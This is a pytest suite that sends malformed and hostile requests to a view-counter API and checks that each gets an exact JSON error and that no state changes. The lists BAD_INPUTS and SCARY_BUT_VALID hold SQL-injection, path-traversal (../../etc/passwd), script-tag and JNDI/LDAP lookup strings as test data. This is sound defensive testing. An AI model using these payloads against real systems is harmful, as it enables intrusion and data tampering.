"""Hostile and malformed input against the real API: exact 4xx, JSON errors, nothing half-applied.

Every bad request in the table is sent after one good hit; afterwards Redis holds exactly what it
held before (every key, every value), the `sites` table is unchanged, and the live counts still
show the one good hit. Inputs that only *look* dangerous (SQL, path traversal, markup) are valid
printable page ids and must be counted like any other page.
"""

from __future__ import annotations

import json
import logging
import unicodedata
from collections.abc import AsyncIterator, Callable, Iterator
from dataclasses import dataclass
from dataclasses import field as dc_field
from typing import Any

import asyncpg
import httpx
import pytest
import redis.asyncio as aioredis
from hypothesis import HealthCheck, given
from hypothesis import settings as hyp_settings
from hypothesis import strategies as st

from services.api.hit_body import URL_MAX_CHARS, VISITOR_MAX_CHARS
from services.api.hits import MAX_PAGES_PER_READ
from services.cli.localpostgres import PostgresProcess
from services.cli.localredis import RedisProcess
from services.config import Settings
from services.counter import ids
from services.counter.ids import PAGE_ID_MAX_BYTES
from services.flusher.worker import Flusher
from tests.support.checks import assert_consistent, totals, views
from tests.support.stack import ADMIN, copy_template, make_settings, register_site, running_api

SITE = "quan11"
HITS = f"/v1/sites/{SITE}/hits"
PIXEL = f"/v1/sites/{SITE}/hit.gif"
COUNTS = f"/v1/sites/{SITE}/counts"
JSON_CT = {"content-type": "application/json"}
DEFAULT_MAX_BODY = 16 * 1024
NO_FIELD = object()  # the error must not carry a "field" key at all


def _json_body(value: object) -> bytes:
    """`value` as JSON bytes; ensure_ascii keeps lone surrogates as \\uXXXX escapes."""
    return json.dumps(value).encode()


async def _chunks(total: int, chunk: int = 4096) -> AsyncIterator[bytes]:
    """A body of `total` bytes sent with chunked transfer encoding (no Content-Length)."""
    yield b'{"page": "a", "visitor": "'
    sent = 0
    while sent < total:
        yield b"v" * chunk
        sent += chunk
    yield b'"}'


@dataclass(frozen=True)
class Bad:
    """One bad request and the exact error it must get."""

    method: str
    path: str
    status: int
    code: str
    error_field: str | object = NO_FIELD
    content: bytes | Callable[[], AsyncIterator[bytes]] | None = None
    headers: dict[str, str] = dc_field(default_factory=lambda: dict(JSON_CT))
    params: list[tuple[str, str]] | None = None


def hit(value: object, status: int, code: str, field_name: str | object = NO_FIELD) -> Bad:
    """POST `value` (JSON-encoded) as a hit body."""
    return Bad("POST", HITS, status, code, field_name, content=_json_body(value))


def raw_hit(body: bytes, status: int, code: str, field_name: str | object = NO_FIELD) -> Bad:
    return Bad("POST", HITS, status, code, field_name, content=body)


def page(value: object, status: int = 422, code: str = "invalid_field") -> Bad:
    return hit({"page": value}, status, code, "page")


def site_path(raw_site: str, status: int, code: str, field_name: str | object = NO_FIELD) -> Bad:
    return Bad(
        "POST", f"/v1/sites/{raw_site}/hits", status, code, field_name, content=b'{"page": "a"}'
    )


def pixel(params: list[tuple[str, str]], code: str = "invalid_field") -> Bad:
    return Bad("GET", PIXEL, 422, code, "page", headers={}, params=params)


def admin_put(body: bytes, status: int, code: str, field_name: str | object, s: str = SITE) -> Bad:
    return Bad("PUT", f"/v1/sites/{s}", status, code, field_name, body, {**ADMIN, **JSON_CT})


BAD_INPUTS: dict[str, Bad] = {
    # --- the body as a whole
    "empty body": raw_hit(b"", 400, "invalid_json", "body"),
    "body null": raw_hit(b"null", 422, "invalid_field", "body"),
    "body empty list": raw_hit(b"[]", 422, "invalid_field", "body"),
    "body string": raw_hit(b'"str"', 422, "invalid_field", "body"),
    "body number": raw_hit(b"123", 422, "invalid_field", "body"),
    "truncated json": raw_hit(b'{"page": ', 400, "invalid_json", "body"),
    "nested deeper than the parser allows": raw_hit(
        b"[" * 4000 + b"]" * 4000, 400, "invalid_json", "body"
    ),
    "number overflowing a double": raw_hit(b'{"page": 1e400}', 400, "invalid_json", "body"),
    "trailing garbage": raw_hit(b'{"page": "a"} x', 400, "invalid_json", "body"),
    "single-quoted json": raw_hit(b"{'page': 'a'}", 400, "invalid_json", "body"),
    "invalid utf-8 bytes": raw_hit(b'{"page": "\xff\xfe\xc3"}', 400, "invalid_json", "body"),
    "utf-16 body": raw_hit('{"page": "a"}'.encode("utf-16"), 400, "invalid_json", "body"),
    # orjson refuses a lone surrogate escape while parsing: it cannot become UTF-8 text.
    "lone surrogate escape": raw_hit(b'{"page": "\\ud800"}', 400, "invalid_json", "body"),
    # --- page
    "missing page": hit({}, 422, "missing_field", "page"),
    "missing page, other fields": hit({"visitor": "v", "url": "u"}, 422, "missing_field", "page"),
    "page int": page(123),
    "page float": page(1.5),
    "page list": page(["a"]),
    "page dict": page({"a": 1}),
    "page bool": page(True),
    "page null": page(None),
    "page empty": page(""),
    "page whitespace only": page(" \t \r\n "),
    "page ideographic space only": page("\u3000"),
    "page over max bytes (ascii)": page("a" * (PAGE_ID_MAX_BYTES + 1)),
    "page over max bytes (3-byte chars)": page("ứ" * (PAGE_ID_MAX_BYTES // 3 + 1)),
    "page with NUL": page("a\x00b"),
    "page with newline inside": page("a\nb"),
    "page with ANSI escape": page("\x1b[31mred"),
    "page with DEL": page("a\x7fb"),
    "page with C1 control": page("a\x85b"),
    "page with zero-width space": page("a\u200bb"),
    "page with RTL override": page("a\u202eb"),
    "page with line separator": page("a\u2028b"),
    # --- optional fields
    "visitor int": hit({"page": "a", "visitor": 1}, 422, "invalid_field", "visitor"),
    "visitor too long": hit(
        {"page": "a", "visitor": "v" * (VISITOR_MAX_CHARS + 1)}, 422, "invalid_field", "visitor"
    ),
    "url list": hit({"page": "a", "url": ["x"]}, 422, "invalid_field", "url"),
    "url too long": hit(
        {"page": "a", "url": "u" * (URL_MAX_CHARS + 1)}, 422, "invalid_field", "url"
    ),
    "referrer dict": hit({"page": "a", "referrer": {}}, 422, "invalid_field", "referrer"),
    "referrer bool": hit({"page": "a", "referrer": False}, 422, "invalid_field", "referrer"),
    "referrer too long": hit(
        {"page": "a", "referrer": "r" * (URL_MAX_CHARS + 1)}, 422, "invalid_field", "referrer"
    ),
    # --- size and media type
    "body over limit with content-length": hit(
        {"page": "a", "visitor": "v" * DEFAULT_MAX_BODY}, 413, "body_too_large", "body"
    ),
    "1 MiB body with content-length": raw_hit(b" " * (1 << 20), 413, "body_too_large", "body"),
    "body over limit, chunked": Bad(
        "POST", HITS, 413, "body_too_large", "body", content=lambda: _chunks(DEFAULT_MAX_BODY)
    ),
    "multipart/form-data": Bad(
        "POST",
        HITS,
        415,
        "unsupported_media_type",
        "body",
        content=b'--x\r\nContent-Disposition: form-data; name="page"\r\n\r\na\r\n--x--\r\n',
        headers={"content-type": "multipart/form-data; boundary=x"},
    ),
    "application/xml": Bad(
        "POST",
        HITS,
        415,
        "unsupported_media_type",
        "body",
        content=b"<hit><page>a</page></hit>",
        headers={"content-type": "application/xml"},
    ),
    # --- site id in the path
    "site uppercase": site_path("Quan11", 422, "invalid_field", "site"),
    "site too long": site_path("a" * (ids.SITE_ID_MAX_CHARS + 1), 422, "invalid_field", "site"),
    "site leading dash": site_path("-quan11", 422, "invalid_field", "site"),
    # httpx removes the dot segment: the request goes to /v1/hits, which is no route.
    "site dot-dot": site_path("..", 404, "not_found"),
    "site encoded dot-dot": site_path("%2e%2e", 422, "invalid_field", "site"),
    # The server decodes %2F before routing: /v1/sites/a/b/hits is no route.
    "site encoded slash": site_path("a%2Fb", 404, "not_found"),
    "site sql injection": site_path("' OR 1=1 --", 422, "invalid_field", "site"),
    "site markup": site_path("<script>", 422, "invalid_field", "site"),
    "site unicode": site_path("quận11", 422, "invalid_field", "site"),
    "site encoded NUL": site_path("a%00", 422, "invalid_field", "site"),
    "site empty": site_path("", 404, "not_found"),
    "site unregistered": site_path("nosuchsite", 404, "unknown_site", "site"),
    # --- the pixel
    "pixel without page": pixel([], code="missing_field"),
    "pixel empty page": pixel([("page", "")]),
    "pixel whitespace page": pixel([("page", "\r\n")]),
    "pixel NUL in page": pixel([("page", "a\x00b")]),
    "pixel escape in page": pixel([("page", "\x1b]0;x\x07")]),
    "pixel page over max bytes": pixel([("page", "a" * (PAGE_ID_MAX_BYTES + 1))]),
    # --- live counts read
    "counts over max pages": Bad(
        "GET",
        COUNTS,
        422,
        "invalid_field",
        "page",
        headers={},
        params=[("page", str(i)) for i in range(MAX_PAGES_PER_READ + 1)],
    ),
    "counts empty page": Bad(
        "GET", COUNTS, 422, "invalid_field", "page", headers={}, params=[("page", "")]
    ),
    "counts control char page": Bad(
        "GET", COUNTS, 422, "invalid_field", "page", headers={}, params=[("page", "a\tb")]
    ),
    # --- routing
    "DELETE on hits": Bad("DELETE", HITS, 405, "method_not_allowed", headers={}),
    "GET on hits": Bad("GET", HITS, 405, "method_not_allowed", headers={}),
    "PATCH on pixel": Bad("PATCH", PIXEL, 405, "method_not_allowed", headers={}),
    "unknown route": Bad("GET", "/v1/nope", 404, "not_found", headers={}),
    "unknown sub-route": Bad("POST", f"{HITS}/extra", 404, "not_found", content=b"{}"),
    # --- admin
    "admin without token": Bad(
        "PUT", f"/v1/sites/{SITE}", 401, "unauthorized", "authorization", b"{}", dict(JSON_CT)
    ),
    "admin bad json": admin_put(b'{"timezone": ', 400, "invalid_json", "body"),
    "admin list body": admin_put(b"[]", 422, "invalid_field", "body"),
    "admin string body": admin_put(b'"UTC"', 422, "invalid_field", "body"),
    "admin unknown timezone": admin_put(
        b'{"timezone": "Mars/Olympus"}', 422, "invalid_field", "timezone"
    ),
    "admin unknown timezone, new site": admin_put(
        b'{"timezone": "Mars/Olympus"}', 422, "invalid_field", "timezone", s="newsite"
    ),
    "admin timezone int": admin_put(b'{"timezone": 7}', 422, "invalid_field", "timezone"),
    "admin timezone null": admin_put(b'{"timezone": null}', 422, "invalid_field", "timezone"),
    "admin timezone empty": admin_put(b'{"timezone": ""}', 422, "invalid_field", "timezone"),
    "admin timezone path": admin_put(
        b'{"timezone": "../../etc/passwd"}', 422, "invalid_field", "timezone"
    ),
    "admin timezone not a zone file": admin_put(
        b'{"timezone": "zone.tab"}', 422, "invalid_field", "timezone"
    ),
    "admin bad site id": admin_put(b"{}", 422, "invalid_field", "site", s="Bad%20Site"),
}


def assert_json_error(response: httpx.Response, status: int, code: str, field_name: object) -> None:
    """`{"error": {"code", "message", "field"?}}` with exactly the expected status/code/field."""
    assert response.status_code == status, response.text
    assert response.headers["content-type"] == "application/json"
    body = response.json()
    assert list(body) == ["error"]
    error = body["error"]
    expected_keys = {"code", "message"} if field_name is NO_FIELD else {"code", "message", "field"}
    assert set(error) == expected_keys, error
    assert error["code"] == code
    assert isinstance(error["message"], str) and error["message"].strip()
    if field_name is not NO_FIELD:
        assert error["field"] == field_name


async def redis_state(client: aioredis.Redis) -> dict[bytes, object]:
    """Every key and its whole value (TTL aside)."""
    state: dict[bytes, object] = {}
    async for key in client.scan_iter(count=1000):
        kind = await client.type(key)
        value: object
        if kind == b"hash":
            value = await client.hgetall(key)
        elif kind == b"string":
            value = await client.get(key)
        elif kind == b"set":
            value = await client.smembers(key)
        elif kind == b"zset":
            value = await client.zrange(key, 0, -1, withscores=True)
        elif kind == b"list":
            value = await client.lrange(key, 0, -1)
        else:
            value = await client.dump(key)
        state[key] = (kind, value)
    return state


async def sites_rows(database_url: str) -> list[tuple[str, str]]:
    conn = await asyncpg.connect(database_url)
    try:
        rows = await conn.fetch("SELECT site, timezone FROM sites ORDER BY site")
    finally:
        await conn.close()
    return [(r["site"], r["timezone"]) for r in rows]


@dataclass
class Shared:
    """One server, database and Redis for the whole table: bad requests must change nothing."""

    api: httpx.AsyncClient
    redis: aioredis.Redis
    database_url: str
    good_hits: int = 0


@pytest.fixture(scope="module")
async def shared(
    redis_server: RedisProcess, pg_server: PostgresProcess, migrated_template: str
) -> AsyncIterator[Shared]:
    database_url = await copy_template(pg_server)
    client = aioredis.Redis.from_url(redis_server.url)
    try:
        await client.flushall()
        await client.script_flush()
        async with running_api(make_settings(redis_server.url, database_url)) as api:
            await register_site(api)
            yield Shared(api, client, database_url)
    finally:
        await client.aclose()


class _Records(logging.Handler):
    def __init__(self) -> None:
        super().__init__(logging.ERROR)
        self.records: list[logging.LogRecord] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(record)


@pytest.fixture
def server_errors() -> Iterator[list[logging.LogRecord]]:
    """ERROR records of the in-process server: a handled 4xx must not log a traceback."""
    handler = _Records()
    loggers = [logging.getLogger(name) for name in ("uvicorn.error", "viewcounter.api")]
    for logger in loggers:
        logger.addHandler(handler)
    yield handler.records
    for logger in loggers:
        logger.removeHandler(handler)


async def send(api: httpx.AsyncClient, bad: Bad) -> httpx.Response:
    content = bad.content() if callable(bad.content) else bad.content
    return await api.request(
        bad.method, bad.path, content=content, headers=bad.headers, params=bad.params
    )


@pytest.mark.parametrize("bad", BAD_INPUTS.values(), ids=BAD_INPUTS.keys())
async def test_bad_input_gets_exact_json_error_and_changes_nothing(
    shared: Shared, server_errors: list[logging.LogRecord], bad: Bad
) -> None:
    api = shared.api
    good = await api.post(HITS, json={"page": "good"})
    assert good.status_code == 200, good.text
    shared.good_hits += 1
    redis_before = await redis_state(shared.redis)
    sites_before = await sites_rows(shared.database_url)

    response = await send(api, bad)

    assert_json_error(response, bad.status, bad.code, bad.error_field)
    if callable(bad.content):
        assert response.request.headers["transfer-encoding"] == "chunked"
        assert "content-length" not in response.request.headers
    if bad.status == 405:
        allowed = {m.strip() for m in response.headers["allow"].split(",")}
        assert allowed in ({"POST"}, {"GET", "HEAD"})
    assert await redis_state(shared.redis) == redis_before
    assert await sites_rows(shared.database_url) == sites_before
    counts = await api.get(COUNTS, params={"page": "good"})
    expected = {"site": SITE, "site_views": shared.good_hits, "pages": {"good": shared.good_hits}}
    assert views(counts.json()) == expected
    assert server_errors == []


async def test_refusals_carry_cors_headers_so_the_page_can_read_them(shared: Shared) -> None:
    origin = {"origin": "https://quan11.hochiminhcity.gov.vn"}
    response = await shared.api.post(HITS, content=b"{}", headers={**JSON_CT, **origin})
    assert_json_error(response, 422, "missing_field", "page")
    assert response.headers["access-control-allow-origin"] == "*"


async def test_body_of_exactly_the_limit_is_accepted_and_one_byte_more_refused(
    shared: Shared,
) -> None:
    head = b'{"page": "limit"}'
    exact = head + b" " * (DEFAULT_MAX_BODY - len(head))

    async def chunked(body: bytes) -> AsyncIterator[bytes]:
        for start in range(0, len(body), 1000):
            yield body[start : start + 1000]

    for body, status in [(exact, 200), (exact + b" ", 413)]:
        with_length = await shared.api.post(HITS, content=body, headers=JSON_CT)
        without_length = await shared.api.post(HITS, content=chunked(body), headers=JSON_CT)
        assert "content-length" not in without_length.request.headers
        assert [with_length.status_code, without_length.status_code] == [status, status]
    shared.good_hits += 2
    counts = await shared.api.get(COUNTS, params={"page": "limit"})
    assert counts.json()["pages"] == {"limit": 2}
    assert counts.json()["site_views"] == shared.good_hits


SCARY_BUT_VALID = [
    "'; DROP TABLE page_views; --",
    "Robert'); DROP TABLE sites;--",
    "../../etc/passwd",
    "..\\..\\windows\\system32",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil/a}",
    "%00%0d%0a",
    "{vc:quan11}:site",
    "}:pend:0",
    "a:b:c",
    "\\x00 literally",
    "\ufffd replacement char",
    "👍🏽 emoji",
    "tin-tức/phát-huy-vai-trò-123",
    "a" * PAGE_ID_MAX_BYTES,
    "ứ" * (PAGE_ID_MAX_BYTES // 3),
]


async def test_scary_looking_but_printable_page_ids_are_counted_exactly(
    api: httpx.AsyncClient, site: str, flusher: Flusher, database_url: str
) -> None:
    for n, raw in enumerate(SCARY_BUT_VALID, start=1):
        response = await api.post(HITS, json={"page": raw})
        assert response.status_code == 200, (raw, response.text)
        body = response.json()
        assert (body["page"], body["page_views"], body["site_views"]) == (raw, 1, n)
    pixel = await api.get(PIXEL, params={"page": SCARY_BUT_VALID[0]})
    assert pixel.status_code == 200
    expected = {p: 1 for p in SCARY_BUT_VALID} | {SCARY_BUT_VALID[0]: 2}

    counts = await api.get(COUNTS, params=[("page", p) for p in SCARY_BUT_VALID])
    assert views(counts.json()) == {
        "site": site,
        "site_views": len(SCARY_BUT_VALID) + 1,
        "pages": expected,
    }

    await flusher.flush_once()
    stored = await totals(database_url, site)
    assert_consistent(stored)
    assert stored.pages == expected
    assert await sites_rows(database_url) == [(site, "Asia/Ho_Chi_Minh")]


# --- properties: whatever arrives, never a 5xx, and every refusal has the error shape

FUZZ_SETTINGS = hyp_settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
json_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(),
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=8), children, max_size=4)
    ),
    max_leaves=12,
)
hit_like = st.fixed_dictionaries(
    {"page": json_values},
    optional={"visitor": json_values, "url": json_values, "referrer": json_values},
)
media_types = st.sampled_from(
    ["application/json", "text/plain;charset=UTF-8", "", "application/octet-stream", "text/html"]
)


def assert_ok_or_json_4xx(response: httpx.Response) -> None:
    assert response.status_code < 500, response.text
    if response.status_code == 200:
        return
    assert 400 <= response.status_code < 500
    error = response.json()["error"]
    assert {"code", "message"} <= set(error) <= {"code", "message", "field"}
    assert isinstance(error["code"], str) and isinstance(error["message"], str)


@FUZZ_SETTINGS
@given(value=json_values | hit_like)
async def test_any_json_value_is_answered_200_or_json_4xx(
    api: httpx.AsyncClient, site: str, value: Any
) -> None:
    response = await api.post(HITS, content=_json_body(value), headers=JSON_CT)
    assert_ok_or_json_4xx(response)


@FUZZ_SETTINGS
@given(body=st.binary(max_size=512), media=media_types)
async def test_any_bytes_are_answered_200_or_json_4xx(
    api: httpx.AsyncClient, site: str, body: bytes, media: str
) -> None:
    headers = {"content-type": media} if media else {}
    response = await api.post(HITS, content=body, headers=headers)
    assert_ok_or_json_4xx(response)


def _has_surrogate(text: str) -> bool:
    return any(unicodedata.category(ch) == "Cs" for ch in text)


@FUZZ_SETTINGS
@given(raw=st.text(max_size=40) | st.text(max_size=600, alphabet="aứ \t\n\x00"))
async def test_any_text_page_is_counted_iff_page_id_accepts_it(
    api: httpx.AsyncClient, site: str, raw: str
) -> None:
    response = await api.post(HITS, content=_json_body({"page": raw}), headers=JSON_CT)
    try:
        expected = ids.page_id(raw)
    except ids.InvalidId:
        expected = None
    if _has_surrogate(raw):
        assert_json_error(response, 400, "invalid_json", "body")
    elif expected is None:
        assert_json_error(response, 422, "invalid_field", "page")
    else:
        assert response.status_code == 200, response.text
        assert response.json()["page"] == expected


def test_settings_default_body_limit_is_what_the_table_assumes() -> None:
    assert Settings.model_fields["max_body_bytes"].default == DEFAULT_MAX_BODY
